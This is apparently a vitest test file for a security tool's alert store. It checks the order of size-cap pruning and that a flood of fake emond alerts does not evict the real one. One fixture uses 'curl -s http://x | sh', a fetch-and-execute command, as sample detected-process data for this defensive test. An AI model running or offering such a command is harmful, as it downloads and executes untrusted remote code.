import { describe, expect, it } from 'vitest';
import { createAlertFanOut } from '../../src/alerts/alert-fanout.js';
import { AlertStore, type NewAlert } from '../../src/storage/alert-store.js';
import { makeAlert, testRule, type AlertSpec } from '../helpers/alerts.js';
import { tempDbPath } from '../helpers/store.js';

const NOW = Date.parse('2025-09-01T00:00:00Z');
const at = (minutes: number): string => new Date(NOW - 60 * 60_000 + minutes * 60_000).toISOString();
const padding = 'x'.repeat(20_000);

function alert(minutes: number, spec: AlertSpec = {}, extra: Partial<NewAlert> = {}): NewAlert {
  return { document: makeAlert({ time: at(minutes), pid: 1000 + minutes, args: ['sh', '-c', `${padding} ${minutes}`], parentExecutable: '/tmp/emond', ...spec }), ...extra };
}

/** Pids left after pruning to a cap that `fraction` of the rows fit in. */
function pruneTo(store: AlertStore, fraction: number): number[] {
  store.prune({ maxBytes: Math.floor(store.usedBytes() * fraction) });
  return store.list({ order: 'oldest' }).map((a) => (a.process.pid as number) - 1000);
}

describe('size-cap pruning order', () => {
  it('removes held-back repeats first, then resolved alerts, then the oldest of the rest; trusted-parent alerts last', () => {
    const store = AlertStore.open(tempDbPath(), { now: () => NOW });
    const ids = store.insertAlerts([
      alert(0, { parentExecutable: '/sbin/emond' }, { trustedParent: true }), // oldest: the real emond
      alert(1), // ordinary, will be resolved
      alert(2),
      alert(3),
      alert(4), // ordinary
      ...Array.from({ length: 20 }, (_, i) => alert(10 + i, {}, { notified: false })), // held back, newest
      alert(40), // ordinary, newest of the rule
    ]);
    store.setStatus(ids[1] as number, 'resolved', { by: 'alice' });
    // The order rows go in: held back (newer as they are), resolved, ordinary oldest first, the
    // trusted parent's, and the rule's newest open alert last. Whatever the cap, what is left is
    // the end of that order.
    const order = [...Array.from({ length: 20 }, (_, i) => 10 + i), 1, 2, 3, 4, 0, 40];
    const sorted = (pids: number[]) => [...pids].sort((a, b) => a - b);
    const seen: number[] = [];
    for (let left = 26, round = 0; left > 0 && round < 20; round++) {
      const kept = pruneTo(store, 0.7);
      expect(kept.length).toBeLessThan(left);
      left = kept.length;
      seen.push(left);
      expect(kept).toEqual(sorted(order.slice(order.length - kept.length)));
    }
    // It went through the tiers step by step, not all at once.
    expect(seen.length).toBeGreaterThan(3);
    store.close();
  });

  it('never removes the newest open alert of a rule while older or larger ones remain', () => {
    const store = AlertStore.open(tempDbPath(), { now: () => NOW });
    const quiet = testRule({ id: 'quiet', name: 'Quiet rule' });
    store.insertAlerts([
      alert(0, { rule: quiet }), // the only alert of its rule: the oldest row of all
      ...Array.from({ length: 30 }, (_, i) => alert(1 + i, { args: ['sh', '-c', `${padding.repeat(4)} ${i}`] })),
    ]);
    const left = pruneTo(store, 0.2);
    expect(left[0]).toBe(0);
    expect(left.length).toBeGreaterThan(1);
    store.close();
  });

  it('an attacker-sized flood against a small maxDatabaseMB leaves the real emond alert in the database', async () => {
    const store = AlertStore.open(tempDbPath(), { now: () => NOW });
    const fanOut = createAlertFanOut({ store });
    const rule = testRule();
    const real = makeAlert({ rule, time: at(0), pid: 1, args: ['sh', '-c', 'curl -s http://x | sh'], parentExecutable: '/sbin/emond' });
    fanOut.submit(real, rule);
    // 128 KiB argv per alert from 8 fake emonds (so most are over their key's max_signals), each
    // run by a process of its own (no merging).
    const huge = 'A'.repeat(128 * 1024);
    for (let i = 0; i < 300; i++) {
      const parent = `/Users/x/${i % 8}/emond`;
      const spec = { rule, time: at(1 + i / 100), pid: 10 + i, args: ['sh', '-c', `${huge}${i}`], parentExecutable: parent, parentEntity: `fake-${i}` };
      fanOut.submit(makeAlert(spec), rule);
    }
    expect(await fanOut.close()).toBe(true);
    expect(store.count()).toBe(301);
    // The byte cap held every row near 64 KiB: 300 alerts are ~20 MB, not 40 MB.
    expect(store.usedBytes()).toBeLessThan(30 * 2 ** 20);
    const cap = 2 * 2 ** 20;
    const result = store.prune({ maxBytes: cap });
    expect(result.removedBySize).toBeGreaterThan(250);
    expect(store.usedBytes()).toBeLessThanOrEqual(cap);
    const left = store.list({ order: 'oldest' });
    expect(left[0]).toMatchObject({ uuid: real.kibana?.alert.uuid, process: { pid: 1, parent: { executable: '/sbin/emond' } } });
    store.close();
  });
});
